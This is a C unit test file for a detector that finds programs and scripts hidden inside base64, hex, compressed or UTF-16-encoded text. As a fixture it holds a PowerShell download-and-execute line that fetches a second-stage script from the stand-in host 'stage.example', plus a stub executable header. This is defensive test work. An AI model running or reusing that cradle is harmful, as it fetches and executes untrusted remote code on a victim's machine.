/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "detect/carried.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include <cmocka.h>

#include "base/clock.h"
#include "base/must.h"

enum {
	ROOM = 65536
};

static size_t to_base64(const uint8_t *b, size_t n, char *ret)
{
	static const char digits[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	uint32_t bits = 0;
	unsigned have = 0;
	size_t out = 0;
	for (size_t i = 0; i < n; i++) {
		bits = bits << 8 | b[i];
		for (have += 8; have >= 6; have -= 6)
			ret[out++] = digits[bits >> (have - 6) & 63];
	}
	if (have > 0)
		ret[out++] = digits[bits << (6 - have) & 63];
	ret[out] = '\0';
	return out;
}

static size_t to_hex(const uint8_t *b, size_t n, char *ret)
{
	for (size_t i = 0; i < n; i++)
		snprintf(ret + 2 * i, 3, "%02x", b[i]);
	return 2 * n;
}

static size_t compress_text(const char *text, int window_bits, uint8_t *ret)
{
	z_stream z = { 0 };
	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (uint8_t *)(uintptr_t)text;
	z.avail_in = (unsigned)strlen(text);
	z.next_out = ret;
	z.avail_out = ROOM;
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	deflateEnd(&z);
	return ROOM - z.avail_out;
}

static struct carried look(const void *bytes, size_t n)
{
	struct carried c;
	carried_look(bytes, n, &c);
	return c;
}

static const char script[] =
	"IEX (New-Object Net.WebClient).DownloadString('http://stage.example/second.ps1') # and more";

static void a_program_in_text_is_found(void **state)
{
	(void)state;
	uint8_t program[300] = "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8";
	static char text[ROOM], again[ROOM];
	size_t n = to_base64(program, sizeof program, text);
	struct carried c = look(text, n);
	assert_int_equal(c.kind, CARRIED_PROGRAM);
	assert_string_equal(c.encoding, "base64");
	assert_int_equal(c.layers, 1);
	assert_in_range(c.n_encoded, 299, 301);
	/* Cut off anywhere, and with something in front. */
	memmove(text + 3, text, n);
	memcpy(text, "1: ", 3);
	assert_int_equal(look(text, 60).kind, CARRIED_PROGRAM);
	/* Two layers. */
	n = to_base64((uint8_t *)text + 3, n, again);
	c = look(again, n);
	assert_int_equal(c.kind, CARRIED_PROGRAM);
	assert_int_equal(c.layers, 2);
	n = to_hex(program, sizeof program, text);
	c = look(text, n);
	assert_int_equal(c.kind, CARRIED_PROGRAM);
	assert_string_equal(c.encoding, "hexadecimal digits");
	/* As it is, in a record of another type. */
	assert_int_equal(look(program, sizeof program).kind, CARRIED_PROGRAM);
}

static void a_script_is_found_however_it_is_wrapped(void **state)
{
	(void)state;
	static uint8_t packed[ROOM];
	static char text[ROOM];
	static const int windows[] = { 15, 31, -15 };
	struct carried c = look(script, strlen(script));
	assert_int_equal(c.kind, CARRIED_SCRIPT);
	assert_int_equal(c.layers, 0);
	for (size_t i = 0; i < ARRAY_LEN(windows); i++) {
		size_t n = to_base64(packed, compress_text(script, windows[i], packed), text);
		c = look(text, n);
		if (c.kind != CARRIED_SCRIPT)
			fail_msg("window %d: %d, %s", windows[i], (int)c.kind, c.what);
		assert_string_equal(c.encoding, "compressed");
	}
	/* As -enc wants it: two bytes a character. */
	uint8_t wide[2 * sizeof script] = { 0 };
	for (size_t i = 0; i < strlen(script); i++)
		wide[2 * i] = (uint8_t)script[i];
	c = look(text, to_base64(wide, 2 * strlen(script), text));
	assert_int_equal(c.kind, CARRIED_SCRIPT);
	assert_string_equal(c.encoding, "base64");
}

static void ordinary_texts_carry_nothing(void **state)
{
	(void)state;
	static const char *const texts[] = {
		"",
		"v=spf1 include:_spf.example.com ~all",
		"google-site-verification=0123456789abcdefghijklmnopqrstuvwxyzABCDEFG",
		"https://www.spamhaus.org/query/ip/192.0.2.1",
		"The quick brown fox jumps over the lazy dog.",
		"15169 | 8.8.8.0/24 | US | arin | 2023-12-28",
	};
	for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
		struct carried c = look(texts[i], strlen(texts[i]));
		if (c.kind != CARRIED_NOTHING)
			fail_msg("%s: %s", texts[i], c.what);
	}
}

/* Random bytes in whatever encoding are just that. */
static void noise_is_encoded_and_no_more(void **state)
{
	(void)state;
	uint64_t x = 88172645463325252ULL;
	for (unsigned i = 0; i < 3000; i++) {
		uint8_t b[512];
		char text[1100];
		for (size_t k = 0; k < sizeof b; k++) {
			x ^= x << 13;
			x ^= x >> 7;
			x ^= x << 17;
			b[k] = (uint8_t)x;
		}
		size_t n = i % 2 == 0 ? to_base64(b, sizeof b, text) : to_hex(b, sizeof b, text);
		struct carried c = look(text, n);
		if (c.kind != CARRIED_NOTHING || c.n_encoded < 500)
			fail_msg("%u: %s", i, c.what);
	}
}

/* Layers of layers of runs: the work is bounded. */
static void a_nest_of_layers_ends(void **state)
{
	(void)state;
	static char a[ROOM * 2], b[ROOM * 2];
	size_t n = 0;
	uint64_t start_ns = clock_mono_ns();
	for (size_t i = 0; i < 500; i++)
		n += (size_t)snprintf(a + n, sizeof a - n, "%040zx ", i * 7919);
	for (unsigned layer = 0; layer < 3; layer++) {
		size_t m = to_base64((uint8_t *)a, n < 30000 ? n : 30000, b);
		n = 0;
		for (size_t at = 0; at < m; at += 512)
			n += (size_t)snprintf(a + n, sizeof a - n, "%.512s ", b + at);
	}
	for (unsigned i = 0; i < 100; i++)
		(void)look(a, n < 60000 ? n : 60000);
	/* A hundred of the worst take some 100 ms; under a sanitizer on a busy machine more. */
	assert_true(clock_mono_ns() - start_ns < 30 * NS_PER_S);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_program_in_text_is_found),
		cmocka_unit_test(a_script_is_found_however_it_is_wrapped),
		cmocka_unit_test(ordinary_texts_carry_nothing),
		cmocka_unit_test(noise_is_encoded_and_no_more),
		cmocka_unit_test(a_nest_of_layers_ends),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
